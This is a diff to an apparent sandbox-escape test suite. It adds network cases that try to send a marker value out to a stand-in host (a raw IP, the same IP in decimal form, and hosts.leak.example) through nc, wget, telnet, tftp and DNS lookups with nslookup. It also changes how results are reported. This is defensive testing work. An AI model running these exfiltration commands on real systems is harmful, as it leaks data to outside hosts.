@@ -41,6 +41,16 @@ bb_banned_env 6 S EXEC     $B env "$ESCAPE_OTHER/escbanned" ran
 bb_banned_xargs 6 S EXEC   echo ran | $B xargs "$ESCAPE_OTHER/escbanned"
 bb_banned_find 6 S EXEC    $B find locked -maxdepth 0 -exec "$ESCAPE_OTHER/escbanned" ran ";" && [ -e ran ]
 bb_nc 43 S NET             echo "$N" | $B nc -w 1 127.0.0.1 "$ESCAPE_PORT"
+bb_nc_stranger 43 S NET    E; echo "$N" | $B nc -w 1 $EVIL "$ESCAPE_PORT"; false
+bb_nc_decimal 61 S NET     E; echo "$N" | $B nc -w 1 757145666 "$ESCAPE_PORT"; false
+bb_nc_name 43 S NET        E; echo "$N" | $B nc -w 1 hosts.leak.example "$ESCAPE_PORT"; false
+bb_wget 43 S NET           E; $B timeout 1 $B wget -q -O x "http://$EVIL:$ESCAPE_PORT/$N"; false
+bb_wget_name 43 S NET      E; $B timeout 1 $B wget -q -O x "http://hosts.leak.example:$ESCAPE_PORT/$N"; false
+bb_telnet 43 S NET         E; echo "$N" | $B timeout 1 $B telnet $EVIL "$ESCAPE_PORT"; false
+bb_tftp 59 S NET           E; $B timeout 1 $B tftp -g -r "$N" -l x $EVIL "$ESCAPE_PORT"; false
+bb_nslookup 56 S NAMES     E; $B timeout 1 $B nslookup "$N.leak.example"; false
+bb_nslookup_txt 56 S NAMES E; $B timeout 1 $B nslookup -type=txt "$N.leak.example"; false
+bb_nslookup_of 56 S NAMES  E; $B timeout 1 $B nslookup "$N.leak.example" $EVIL; false
 bb_kill 13 LF PALE         kill -URG "$V"
 bb_renice 14 F PALE        $B renice -n 0 -p "$V"
 '
@@ -51,6 +61,12 @@ list() {
 	done
 }
 
+# Where somebody has all addresses (net.sh); what came of it that one knows.
+EVIL=45.33.32.66
+E() {
+	[ -n "$ESCAPE_NET" ] || exit 2
+}
+
 # Whoever started us: inside a session the supervisor.
 V=${PALE_SESSION_DIR:+$PPID}
 V=${V:-$ESCAPE_PID}
@@ -59,11 +75,12 @@ run() {
 	echo "$T" | while read -r N rows rings promise line; do
 		[ -n "$N" ] || continue
 		O=$ESCAPE_OUT/$N
-		if (cd "$N" && eval "$line") >/dev/null 2>&1 </dev/null; then
-			echo "$N worked"
-		else
-			echo "$N stopped"
-		fi
+		(cd "$N" && eval "$line") >/dev/null 2>&1 </dev/null
+		case $?:$line in
+		0:*) echo "$N worked" ;;
+		2:E\;*) echo "$N absent" ;;
+		*) echo "$N stopped" ;;
+		esac
 	done
 }
 
